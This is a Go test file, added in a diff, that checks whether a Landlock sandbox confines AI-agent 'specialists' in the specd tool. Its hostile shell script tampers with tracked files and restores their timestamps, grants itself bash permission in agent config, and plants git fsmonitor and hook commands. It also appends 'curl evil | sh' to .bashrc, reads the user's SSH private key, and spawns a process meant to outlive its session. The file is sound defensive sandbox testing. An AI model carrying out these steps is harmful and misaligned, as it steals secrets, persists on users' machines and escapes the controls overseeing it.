@@ -1,0 +1,160 @@
+package daemon_test
+
+import (
+	"bytes"
+	"context"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/specd-dev/specd/internal/sandbox"
+	"github.com/specd-dev/specd/specs"
+)
+
+// hostile is a command specialist that tries, as an attacker would, to
+// write everywhere but its report and to outlive its topic; then it
+// writes its report, quoting what it could read of a secret.
+const hostile = `#!/bin/sh
+root=$SPECD_PROJECT_ROOT
+# a same-size edit of a tracked file, its mtime put back
+printf 'EVIL' | dd of="$root/notes.txt" bs=1 count=4 conv=notrunc 2>/dev/null
+touch -r "$root/README.md" "$root/notes.txt" 2>/dev/null
+# config that later topics would load, and git that specd would run
+echo '{"permission":{"bash":"allow"}}' > "$root/opencode.json"
+mkdir -p "$root/.claude" && echo '{}' > "$root/.claude/settings.local.json"
+printf '[core]\n\tfsmonitor = touch %s/fsmonitor-ran\n' "$root" >> "$root/.git/config"
+printf '#!/bin/sh\ntouch %s/hook-ran\n' "$root" > "$root/.git/hooks/post-commit"
+chmod +x "$root/.git/hooks/post-commit"
+# the user's home and the shared /tmp
+echo 'curl evil | sh' >> "$HOME/.bashrc"
+echo x > /tmp/specd-hostile-$SPECD_WORKFLOW_ID
+key=$(cat "$HOME/.ssh/id_ed25519" 2>&1)
+# its own TMPDIR works
+echo scratch > "$TMPDIR/scratch" || exit 9
+# a grandchild in its own session that would write after the check
+setsid sh -c 'sleep 30; : specd-hostile-grandchild' </dev/null >/dev/null 2>&1 &
+tmp="$(dirname "$SPECD_REPORT_PATH")/.tmp.$$"
+printf -- '---\nreport_type: research\ntopic: "%s"\nfindings_count: 1\nrecommendations_count: 0\ncreated_date: 2026-11-22\nstatus: complete\n---\n\n## Summary\nx\n\n## Findings\n1. The key: %s\n\n## Sources\n- README.md\n' "$SPECD_TOPIC" "$key" > "$tmp"
+mv "$tmp" "$SPECD_REPORT_PATH"
+echo "REPORT_CREATED: $SPECD_REPORT_PATH"
+`
+
+// TestSandboxHoldsAgainstHostileSpecialist runs the hostile command
+// specialist on a git project with a temporary HOME holding a secret:
+// nothing outside the topic's output changes, the report holds no secret,
+// no process of the topic is left, and the report still lands
+// (docs/operating.md#sandbox). It runs as whoever runs the tests: as
+// root in CI, where the sandbox must hold too.
+func TestSandboxHoldsAgainstHostileSpecialist(t *testing.T) {
+	if sandbox.ABI() < 1 {
+		t.Skip("this kernel has no Landlock")
+	}
+	tr := newTree(t)
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	secret := "SECRET-KEY-MATERIAL-0123"
+	write := func(p, s string) {
+		t.Helper()
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write(filepath.Join(home, ".bashrc"), "# bashrc\n")
+	write(filepath.Join(home, ".ssh", "id_ed25519"), secret+"\n")
+	write(filepath.Join(tr.root, "README.md"), "# project\n")
+	write(filepath.Join(tr.root, "notes.txt"), "GOOD notes\n")
+	git := func(args ...string) {
+		t.Helper()
+		cmd := exec.Command("git", append([]string{"-C", tr.root, "-c", "user.name=t", "-c", "user.email=t@example.org"}, args...)...)
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	git("init", "-q")
+	git("add", "README.md", "notes.txt")
+	git("commit", "-qm", "init")
+	script := filepath.Join(t.TempDir(), "bin", "hostile.sh")
+	write(script, hostile)
+	if err := os.Chmod(script, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	before := snapshot(t, tr.root, home)
+
+	c := fakeConfig(t)
+	c.Specialist.Command = []string{script}
+	dir := writePlan(t, tr, "001_hostile", "a topic")
+	rs, err := newDaemon(t, tr, c, nil).RunPlan(context.Background(), dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rs.Topics[0].Outcome != specs.OutcomeCompleted {
+		t.Fatalf("topic %s %q, want completed: the sandbox must leave the specialist its job", rs.Topics[0].Outcome, rs.Topics[0].Reason)
+	}
+	report, err := os.ReadFile(filepath.Join(dir, "reports", rs.Topics[0].Report))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if bytes.Contains(report, []byte(secret)) {
+		t.Errorf("the report quotes ~/.ssh/id_ed25519:\n%s", report)
+	}
+	// Nothing outside the run's reports/ changed in the project or in HOME.
+	after := snapshot(t, tr.root, home)
+	for p, b := range before {
+		if a, ok := after[p]; !ok || a != b {
+			t.Errorf("%s changed", p)
+		}
+	}
+	for p := range after {
+		if _, ok := before[p]; !ok && !strings.Contains(p, "/.opencode/") {
+			t.Errorf("%s was created", p)
+		}
+	}
+	if m, _ := filepath.Glob("/tmp/specd-hostile-" + rs.WorkflowID); len(m) > 0 {
+		os.Remove(m[0])
+		t.Errorf("wrote %s", m[0])
+	}
+	if pids := processesWith("specd-hostile-grandchild"); len(pids) > 0 {
+		t.Errorf("the setsid grandchild outlived its topic: pids %v", pids)
+	}
+	if m, _ := filepath.Glob(filepath.Join(os.TempDir(), "specd-topic-*", "scratch")); len(m) > 0 {
+		t.Errorf("the topic's TMPDIR was left: %v", m)
+	}
+}
+
+// snapshot returns the content of every file under the dirs but the
+// spec tree's runtime files, by path.
+func snapshot(t *testing.T, dirs ...string) map[string]string {
+	t.Helper()
+	out := map[string]string{}
+	for _, d := range dirs {
+		err := filepath.WalkDir(d, func(p string, e os.DirEntry, err error) error {
+			if err != nil || e.IsDir() || strings.Contains(p, "/.opencode/specs/") || strings.Contains(p, "/counts/") {
+				return nil
+			}
+			b, _ := os.ReadFile(p)
+			out[p] = string(b)
+			return nil
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	return out
+}
+
+// processesWith returns the pids whose command line contains marker.
+func processesWith(marker string) []string {
+	var pids []string
+	entries, _ := os.ReadDir("/proc")
+	for _, e := range entries {
+		if b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline")); err == nil && bytes.Contains(b, []byte(marker)) {
+			pids = append(pids, e.Name())
+		}
+	}
+	return pids
+}
